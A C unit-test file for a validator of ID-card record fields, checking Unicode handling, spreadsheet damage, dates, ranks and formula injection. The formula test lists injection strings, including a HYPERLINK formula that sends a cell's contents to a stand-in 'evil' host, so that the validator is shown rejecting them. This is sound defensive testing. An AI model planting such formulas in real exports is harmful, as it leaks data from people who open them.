/* SPDX-License-Identifier: MIT */
#include "vaultfs/record.h"

#include <stdlib.h>
#include <string.h>

#include "cmocka_std.h"

#define OUT_MAX 8192

/* A good value and what is stored of it. */
static void good(const struct vf_rules *rules, enum vf_field field, const char *value, const char *stored)
{
    VF_BUF out;
    struct vf_why why = {0};

    vf_buf_init(&out, OUT_MAX);
    vf_buf_text(&out, "what was there before");
    enum vf_err err = vf_field_check(rules, field, value, strlen(value), &out, &why);
    if (err != VF_OK)
        print_message("%s refused: %s\n", value, why.text);
    assert_int_equal(err, VF_OK);
    assert_string_equal(vf_buf_cstr(&out), stored);
    assert_true(out.len <= vf_field_info(field)->max_bytes);

    /* Normal form is a fixed point. */
    VF_BUF again;
    vf_buf_init(&again, OUT_MAX);
    assert_int_equal(vf_field_check(rules, field, stored, strlen(stored), &again, NULL), VF_OK);
    assert_string_equal(vf_buf_cstr(&again), stored);
}

static void bad_n(const struct vf_rules *rules, enum vf_field field, const char *value, size_t len, const char *reason)
{
    VF_BUF out;
    struct vf_why why = {0};

    vf_buf_init(&out, OUT_MAX);
    vf_buf_text(&out, "what was there before");
    assert_int_equal(vf_field_check(rules, field, value, len, &out, &why), VF_E_INPUT);
    assert_int_equal(why.err, VF_E_INPUT);
    assert_string_equal(why.text, reason);
    assert_int_equal(out.len, 0);
    assert_int_equal(vf_field_check(rules, field, value, len, &out, NULL), VF_E_INPUT);
}

static void bad(const struct vf_rules *rules, enum vf_field field, const char *value, const char *reason)
{
    bad_n(rules, field, value, strlen(value), reason);
}

#define FORMULA   "begins with = + - or @, which a spreadsheet would run as a formula"
#define ROUNDED   "a spreadsheet has made a rounded number of it (like 1.84E+05): export the column as text"
#define ERROR     "a spreadsheet's error mark stands in place of the value"
#define DOTZERO   "a spreadsheet has put .0 behind it: export the column as text"
#define NOT_UTF8  "is not UTF-8: export it again as \"CSV UTF-8\""
#define BREAK     "has a line break or tab in it"
#define CONTROL   "has a control character in it"
#define INVISIBLE "has an invisible or direction-changing character in it"
#define MEANS_NIL "has a character without a meaning in Unicode in it"
#define LOST      "has the replacement character in it: an earlier program lost a letter here"

static void test_text(void **state)
{
    const enum vf_field name = VF_FIELD_NAME_ON_CARD;

    (void)state;
    good(NULL, name, "O'Brien", "O'Brien");
    good(NULL, name, "  Zoë  Ng ", "Zoë  Ng");
    good(NULL, name, "\xc2\xa0 José\xe2\x80\x83", "José");
    good(NULL, name, "Jose\xcc\x81", "Jos\xc3\xa9");              /* e, combining acute: one letter */
    good(NULL, name, "\xe1\x84\x80\xe1\x85\xa1", "\xea\xb0\x80"); /* Hangul */
    good(NULL, name, "\xe2\x84\xab", "\xc3\x85");                 /* Angstrom sign: A with ring */
    good(NULL, name, "نا\xe2\x80\x8cمه", "نا\xe2\x80\x8cمه");     /* a joiner belongs to the word */
    good(NULL, name, "", "");
    good(NULL, name, "   ", "");
    good(NULL, name, "a=b+c-d@e", "a=b+c-d@e");
    good(NULL, VF_FIELD_NOTIFY_TO, "+44 20 7946 0000", "+44 20 7946 0000"); /* class C is never printed from a table */
    good(NULL, VF_FIELD_NOTIFY_TO, "a@example.org", "a@example.org");

    bad(NULL, name, "a\tb", BREAK);
    bad(NULL, name, "a\nb", BREAK);
    bad(NULL, name, "a\r\n", BREAK);
    bad(NULL, name,
        "a\xe2\x80\xa8"
        "b",
        BREAK); /* line separator */
    bad(NULL, name, "a\x01", CONTROL);
    bad(NULL, name, "a\x7f", CONTROL);
    bad(NULL, name, "a\xc2\x85", CONTROL); /* C1 */
    bad_n(NULL, name, "a\0b", 3, CONTROL);
    bad(NULL, name,
        "a\xe2\x80\xae"
        "b",
        INVISIBLE); /* right-to-left override */
    bad(NULL, name,
        "a\xe2\x81\xa6"
        "b",
        INVISIBLE); /* isolate */
    bad(NULL, name,
        "a\xd8\x9c"
        "b",
        INVISIBLE); /* Arabic letter mark */
    bad(NULL, name,
        "a\xe2\x80\x8b"
        "b",
        INVISIBLE);                                 /* zero-width space */
    bad(NULL, name, "\xef\xbb\xbfhead", INVISIBLE); /* a BOM inside */
    bad(NULL, name,
        "a\xc2\xad"
        "b",
        INVISIBLE); /* soft hyphen */
    bad(NULL, name, "a\xef\xbf\xbd", LOST);
    bad(NULL, name, "a\xee\x80\x80", MEANS_NIL); /* private use */
    bad(NULL, name, "a\xef\xbf\xbf", MEANS_NIL); /* noncharacter */
    bad(NULL, name, "Jos\xe9", NOT_UTF8);        /* Windows-1252 */
    bad(NULL, name, "\xc0\x80", NOT_UTF8);       /* overlong */
    bad(NULL, name, "\xed\xa0\x80", NOT_UTF8);   /* surrogate */
    bad(NULL, name, "a\xe2\x80", NOT_UTF8);      /* cut */
}

static void test_length(void **state)
{
    char text[6000];

    (void)state;
    memset(text, 'a', sizeof(text));
    text[40] = '\0';
    good(NULL, VF_FIELD_NAME_ON_CARD, text, text);
    text[40] = 'a';
    text[41] = '\0';
    bad(NULL, VF_FIELD_NAME_ON_CARD, text, "longer than 40 characters");
    text[41] = 'a';
    text[254] = '\0';
    good(NULL, VF_FIELD_NOTIFY_TO, text, text);
    text[254] = 'a';
    text[255] = '\0';
    bad(NULL, VF_FIELD_NOTIFY_TO, text, "longer than 254 bytes");
    text[255] = 'a';
    bad_n(NULL, VF_FIELD_NOTIFY_TO, text, 4096, "longer than 254 bytes");
    bad_n(NULL, VF_FIELD_NOTIFY_TO, text, 4097, "longer than 4096 bytes");

    /* Characters are code points after normalisation: 40 of four bytes fill the field. */
    for (size_t i = 0; i < 41; i++)
        memcpy(text + 4 * i, "\xf0\x90\x8c\xb0", 4); /* Gothic ahsa */
    text[160] = '\0';
    good(NULL, VF_FIELD_NAME_ON_CARD, text, text);
    text[160] = '\xf0';
    bad_n(NULL, VF_FIELD_NAME_ON_CARD, text, 164, "longer than 40 characters");

    char pairs[121] = "";
    for (size_t i = 0; i < 40; i++)
        memcpy(pairs + 3 * i, "e\xcc\x81", 3);
    VF_BUF out;
    vf_buf_init(&out, OUT_MAX);
    assert_int_equal(vf_field_check(NULL, VF_FIELD_NAME_ON_CARD, pairs, 120, &out, NULL), VF_OK);
    assert_int_equal(out.len, 80);

    /* A caller whose buffer is made for good values gets the same answer. */
    VF_BUF small;
    struct vf_why why = {0};
    vf_buf_init(&small, 12);
    assert_int_equal(vf_field_check(NULL, VF_FIELD_WARRANT_NO, "0123456789012", 13, &small, &why), VF_E_INPUT);
    assert_string_equal(why.text, "longer than 12 bytes");
    assert_int_equal(vf_field_check(NULL, VF_FIELD_WARRANT_NO, "012345678901", 12, &small, &why), VF_OK);
    assert_string_equal(vf_buf_cstr(&small), "012345678901");
}

static void test_formulas(void **state)
{
    static const enum vf_field class_a[] = {VF_FIELD_NAME_ON_CARD, VF_FIELD_RANK,        VF_FIELD_WARRANT_NO,
                                            VF_FIELD_CARD_TYPE,    VF_FIELD_CARD_SERIAL, VF_FIELD_ISSUE_NO,
                                            VF_FIELD_VALID_FROM,   VF_FIELD_VALID_TO,    VF_FIELD_ENDORSEMENT};
    static const char *const formulas[] = {"=1+1",
                                           "+44",
                                           "-1",
                                           "@SUM(A1)",
                                           " =1",
                                           "\xef\xbc\x9d"
                                           "1",
                                           "\xef\xbc\x8b"
                                           "1",
                                           "\xef\xbc\x8d"
                                           "1",
                                           "\xef\xbc\xa0"
                                           "1"};

    (void)state;
    for (size_t f = 0; f < sizeof(class_a) / sizeof(class_a[0]); f++)
        for (size_t i = 0; i < sizeof(formulas) / sizeof(formulas[0]); i++)
            bad(NULL, class_a[f], formulas[i], FORMULA);
    for (size_t i = 0; i < sizeof(formulas) / sizeof(formulas[0]); i++)
        bad(NULL, VF_FIELD_SURNAME, formulas[i], FORMULA);
    bad(NULL, VF_FIELD_STATION, "=HYPERLINK(\"http://evil/\"&A1)", FORMULA);
    good(NULL, VF_FIELD_SURNAME, "-", "-");             /* "no surname" in some systems */
    good(NULL, VF_FIELD_NOTIFY_TO, "+44 20", "+44 20"); /* class C: never in a grant */
}

/* A card with nothing on it. */
static void test_nothing_to_see(void **state)
{
    static const char *const blank[] = {"\xe3\x85\xa4",     "\xe2\xa0\x80",
                                        "\xef\xb8\x8f",     "\xe2\x80\x8d\xe2\x80\x8c",
                                        "\xcc\x81\xcc\x81", "\xe1\x85\x9f\xe1\x85\xa0"};

    (void)state;
    for (size_t i = 0; i < sizeof(blank) / sizeof(blank[0]); i++) {
        bad(NULL, VF_FIELD_NAME_ON_CARD, blank[i], "has no character that can be seen");
        bad(NULL, VF_FIELD_UNIT_CODE, blank[i], "has no character that can be seen");
        assert_true(vf_text_blank(blank[i], strlen(blank[i])));
    }
    assert_true(vf_text_blank("\xc2\xa0 ", 3));
    assert_false(vf_text_blank("a\xcc\x81", 3));
    assert_false(vf_text_blank(".", 1));
}

static void test_spreadsheet_damage(void **state)
{
    static const char *const rounded[] = {"1.84E+05", "1,84E+05", "2E+11", "1.84e+05", "1.2E-3", "1.841230000E+05"};
    static const char *const errors[] = {"#REF!", "#N/A", "#NAME?", "#VALUE!", "#DIV/0!", "####", "###############"};
    static const char *const texts[] = {"1.84E", "1.84E+", "E+05", "1.E+05", "184E05", "1.84E+05 x", "##", "#1", "1E+0a"};

    (void)state;
    for (size_t i = 0; i < sizeof(rounded) / sizeof(rounded[0]); i++) {
        bad(NULL, VF_FIELD_WARRANT_NO, rounded[i], ROUNDED);
        bad(NULL, VF_FIELD_CHIP_UID, rounded[i], ROUNDED);
        bad(NULL, VF_FIELD_NOTIFY_TO, rounded[i], ROUNDED);
    }
    for (size_t i = 0; i < sizeof(errors) / sizeof(errors[0]); i++) {
        bad(NULL, VF_FIELD_SURNAME, errors[i], ERROR);
        bad(NULL, VF_FIELD_VALID_TO, errors[i], ERROR);
    }
    for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
        good(NULL, VF_FIELD_WARRANT_NO, texts[i], texts[i]);
    bad(NULL, VF_FIELD_WARRANT_NO, "184123.0", DOTZERO);
    bad(NULL, VF_FIELD_PAY_NO, "184123.00", DOTZERO);
    bad(NULL, VF_FIELD_ISSUE_NO, "2.0", DOTZERO);
    good(NULL, VF_FIELD_WARRANT_NO, "184.5", "184.5");
    good(NULL, VF_FIELD_WARRANT_NO, "184.", "184.");
    good(NULL, VF_FIELD_ENDORSEMENT, "3.0", "3.0");
}

static void test_warrant(void **state)
{
    struct vf_rules rules = {0};

    (void)state;
    bad(NULL, VF_FIELD_WARRANT_NO, "", "is missing");
    bad(NULL, VF_FIELD_WARRANT_NO, " \xc2\xa0 ", "is missing");
    good(NULL, VF_FIELD_WARRANT_NO, " 000184 ", "000184");
    bad(NULL, VF_FIELD_WARRANT_NO, "0123456789012", "longer than 12 characters");
    bad(NULL, VF_FIELD_WARRANT_NO, "01234567890\xc3\xa9", "longer than 12 bytes");
    bad(NULL, VF_FIELD_WARRANT_NO, "123\xe2\x80\x8d", INVISIBLE); /* would look like 123 */

    assert_int_equal(vf_rules_init(&rules, NULL, 0, "[0-9]{6}", NULL), VF_OK);
    good(&rules, VF_FIELD_WARRANT_NO, "000184", "000184");
    bad(&rules, VF_FIELD_WARRANT_NO, "184", "does not match the force's pattern: has it lost its leading zeros?");
    bad(&rules, VF_FIELD_WARRANT_NO, "00184", "does not match the force's pattern: has it lost its leading zeros?");
    bad(&rules, VF_FIELD_WARRANT_NO, "1234567", "does not match the force's pattern for warrant numbers");
    bad(&rules, VF_FIELD_WARRANT_NO, "A84", "does not match the force's pattern for warrant numbers");
    bad(&rules, VF_FIELD_WARRANT_NO, "1234", "does not match the force's pattern: has it lost its leading zeros?");
    bad(&rules, VF_FIELD_WARRANT_NO, "1.84E+05", ROUNDED);
    bad(&rules, VF_FIELD_WARRANT_NO, "0001840", "does not match the force's pattern for warrant numbers");
    vf_rules_done(&rules);

    /* As many zeros as a number may have, and not one more. */
    assert_int_equal(vf_rules_init(&rules, NULL, 0, "0{11}[1-9]", NULL), VF_OK);
    bad(&rules, VF_FIELD_WARRANT_NO, "7", "does not match the force's pattern: has it lost its leading zeros?");
    good(&rules, VF_FIELD_WARRANT_NO, "000000000007", "000000000007");
    vf_rules_done(&rules);
}

static void test_rank(void **state)
{
    static const char *const known[] = {
        "Constable",
        "Detective Constable",
        "Detective Chief Superintendent",
        "Chief Inspector",
        "Assistant Chief Constable",
        "Deputy Chief Constable",
        "Chief Constable",
        "Commander",
        "Deputy Assistant Commissioner",
        "Assistant Commissioner",
        "Deputy Commissioner",
        "Commissioner",
    };
    static const char *const unknown[] = {"PC",
                                          "Detective",
                                          "Detective Commander",
                                          "Constable Detective",
                                          "DetectiveConstable",
                                          "Detective Chief Constable",
                                          "Detective Detective Constable",
                                          "Constables",
                                          "Detective  Constable",
                                          "Chief"};

    (void)state;
    good(NULL, VF_FIELD_RANK, "", ""); /* staff have none */
    for (size_t i = 0; i < sizeof(known) / sizeof(known[0]); i++)
        good(NULL, VF_FIELD_RANK, known[i], known[i]);
    for (size_t i = 0; i < sizeof(unknown) / sizeof(unknown[0]); i++)
        bad(NULL, VF_FIELD_RANK, unknown[i], "not in the force's list of ranks");
    bad(NULL, VF_FIELD_RANK, "CONSTABLE", "not in the list of ranks: it is there with other capital letters");
    bad(NULL, VF_FIELD_RANK, "detective sergeant", "not in the list of ranks: it is there with other capital letters");
}

static void test_forms(void **state)
{
    (void)state;
    good(NULL, VF_FIELD_CARD_TYPE, "VISITOR", "VISITOR");
    bad(NULL, VF_FIELD_CARD_TYPE, "Visitor", "not one of WARRANT, STAFF, PCSO, SPECIAL, CONTRACTOR, VISITOR");
    bad(NULL, VF_FIELD_PERSON_TYPE, "VISITOR", "not one of OFFICER, SPECIAL, PCSO, STAFF, CONTRACTOR");
    bad(NULL, VF_FIELD_VETTING, "NPPV4", "not one of RV, MV, CTC, SC, DV, NPPV1, NPPV2, NPPV3");
    bad(NULL, VF_FIELD_PROTECT, "SECRET", "not one of STANDARD, RESTRICTED, COVERT");
    bad(NULL, VF_FIELD_STATUS, "LEFT", "not one of ACTIVE, LEAVER");
    good(NULL, VF_FIELD_PROTECT, "", "");
    good(NULL, VF_FIELD_VETTING, "NPPV3", "NPPV3");

    good(NULL, VF_FIELD_ISSUE_NO, "1", "1");
    good(NULL, VF_FIELD_ISSUE_NO, "999999", "999999");
    static const char *const numbers[] = {"0", "01", "1000000", "1 2", "one", "18446744073709551617"};
    for (size_t i = 0; i < sizeof(numbers) / sizeof(numbers[0]); i++)
        bad(NULL, VF_FIELD_ISSUE_NO, numbers[i], "not a whole number from 1 to 999999");

    good(NULL, VF_FIELD_CHIP_UID, "04A1b2c3", "04A1b2c3");
    good(NULL, VF_FIELD_CHIP_UID, "04a1b2c3d4e5f6", "04a1b2c3d4e5f6");
    good(NULL, VF_FIELD_CHIP_UID, "04a1b2c3d4e5f6071829", "04a1b2c3d4e5f6071829");
    good(NULL, VF_FIELD_CHIP_UID, "1234E567", "1234E567");
    bad(NULL, VF_FIELD_CHIP_UID, "04a1b2c", "not 8, 14 or 20 hexadecimal digits (4, 7 or 10 bytes)");
    bad(NULL, VF_FIELD_CHIP_UID, "04a1b2c3d4", "not 8, 14 or 20 hexadecimal digits (4, 7 or 10 bytes)");
    bad(NULL, VF_FIELD_CHIP_UID, "04:a1:b2", "not hexadecimal digits alone");
    bad(NULL, VF_FIELD_CHIP_UID, "04a1b2cg", "not hexadecimal digits alone");

    bad(NULL, VF_FIELD_PHOTO, "x", "is an image: it comes from a file, not as text");
    bad(NULL, VF_FIELD_SIGNATURE, "", "is an image: it comes from a file, not as text");
    bad(NULL, VF_FIELD_NONE, "x", "no such field");
    bad(NULL, VF_FIELD_COUNT, "x", "no such field");
}

static void test_dates(void **state)
{
    static const char *const dates[] = {"2026-11-21", "2024-02-29", "2000-02-29", "1900-01-01", "9999-12-31"};
    static const char *const not_dates[] = {"2026-11-31", "2023-02-29", "1900-02-29", "2026-13-01", "2026-00-10",
                                            "2026-01-00", "1899-12-31", "21/11/2026", "2026-1-1",   "2026-11-21T00:00:00Z",
                                            "20261121",   "2026-11-2",  "2026-11-211"};
    static const char *const times[] = {"2026-11-21",           "2026-11-21T17:00:00Z",        "2026-11-21t17:00:00z",
                                        "2026-11-21 17:00:00Z", "2026-11-21T17:00:00.123456Z", "2026-11-21T17:00:00+01:00",
                                        "2016-12-31T23:59:60Z", "2026-11-21T17:00:00.5-23:59"};
    static const char *const not_times[] = {"2026-11-21T17:00:00",
                                            "2026-11-21T17:00Z",
                                            "2026-11-21T24:00:00Z",
                                            "2026-11-21T17:60:00Z",
                                            "2026-11-21T17:00:61Z",
                                            "2026-11-21T17:00:00.Z",
                                            "2026-11-31T17:00:00Z",
                                            "2026-11-21T17:00:00+24:00",
                                            "2026-11-21T17:00:00+0100",
                                            "2026-11-21T17:00:00Zz",
                                            "yesterday"};

    (void)state;
    for (size_t i = 0; i < sizeof(dates) / sizeof(dates[0]); i++)
        good(NULL, VF_FIELD_VALID_TO, dates[i], dates[i]);
    for (size_t i = 0; i < sizeof(not_dates) / sizeof(not_dates[0]); i++)
        bad(NULL, VF_FIELD_VETTING_EXPIRY, not_dates[i], "not a real date written like 2026-11-21");
    for (size_t i = 0; i < sizeof(times) / sizeof(times[0]); i++)
        good(NULL, VF_FIELD_SOURCE_UPDATED, times[i], times[i]);
    for (size_t i = 0; i < sizeof(not_times) / sizeof(not_times[0]); i++)
        bad(NULL, VF_FIELD_SOURCE_UPDATED, not_times[i],
            "not a real date or time written like 2026-11-21 or 2026-11-21T17:00:00Z");
    bad(NULL, VF_FIELD_SOURCE_UPDATED, "2026-11-21T17:00:00.0000000000000000000000Z", "longer than 40 bytes");
}

/* Printable but for the joiners, which are part of how some names are written. */
static bool printable(const char *text, size_t len)
{
    char rest[OUT_MAX];
    size_t n = 0;

    for (size_t at = 0; at < len; at++) {
        bool joiner =
            at + 3 <= len && (memcmp(text + at, "\xe2\x80\x8c", 3) == 0 || memcmp(text + at, "\xe2\x80\x8d", 3) == 0);
        if (joiner)
            at += 2;
        else
            rest[n++] = text[at];
    }
    return vf_text_printable(rest, n);
}

/* Every byte changed, every length: what comes through is printable, and a fixed point. */
static void test_mutations(void **state)
{
    static const char seed[] = "Zo\xc3\xab O'Br\xcc\x81ien \xe2\x80\x83x";
    size_t len = sizeof(seed) - 1;

    (void)state;
    for (size_t at = 0; at < len; at++) {
        for (unsigned to = 0; to < 256; to++) {
            char text[sizeof(seed)];
            VF_BUF out;
            vf_buf_init(&out, OUT_MAX);
            memcpy(text, seed, len);
            text[at] = (char)to;
            size_t n = to % 7 == 0 ? at + 1 : len;
            if (vf_field_check(NULL, VF_FIELD_SURNAME, text, n, &out, NULL) != VF_OK)
                continue;
            assert_true(printable((const char *)out.data, out.len));
            good(NULL, VF_FIELD_SURNAME, vf_buf_cstr(&out), vf_buf_cstr(&out));
        }
    }
}

static void test_row(void **state)
{
    struct vf_csv_cell values[VF_FIELD_COUNT] = {{NULL, 0}};
    enum vf_field field = VF_FIELD_NONE;
    struct vf_why why = {0};

    (void)state;
    assert_int_equal(vf_row_check(values, &field, &why), VF_OK);
    values[VF_FIELD_VALID_FROM] = (struct vf_csv_cell){"2026-11-21", 10};
    assert_int_equal(vf_row_check(values, &field, &why), VF_OK);
    values[VF_FIELD_VALID_TO] = (struct vf_csv_cell){"2026-11-21", 10};
    assert_int_equal(vf_row_check(values, &field, &why), VF_OK);
    values[VF_FIELD_VALID_TO] = (struct vf_csv_cell){"", 0};
    assert_int_equal(vf_row_check(values, &field, &why), VF_OK);
    assert_int_equal(field, VF_FIELD_NONE);
    values[VF_FIELD_VALID_TO] = (struct vf_csv_cell){"2026-11-20", 10};
    assert_int_equal(vf_row_check(values, &field, &why), VF_E_INPUT);
    assert_int_equal(field, VF_FIELD_VALID_TO);
    assert_string_equal(why.text, "is before valid_from");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_text),
        cmocka_unit_test(test_length),
        cmocka_unit_test(test_formulas),
        cmocka_unit_test(test_nothing_to_see),
        cmocka_unit_test(test_spreadsheet_damage),
        cmocka_unit_test(test_warrant),
        cmocka_unit_test(test_rank),
        cmocka_unit_test(test_forms),
        cmocka_unit_test(test_dates),
        cmocka_unit_test(test_mutations),
        cmocka_unit_test(test_row),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
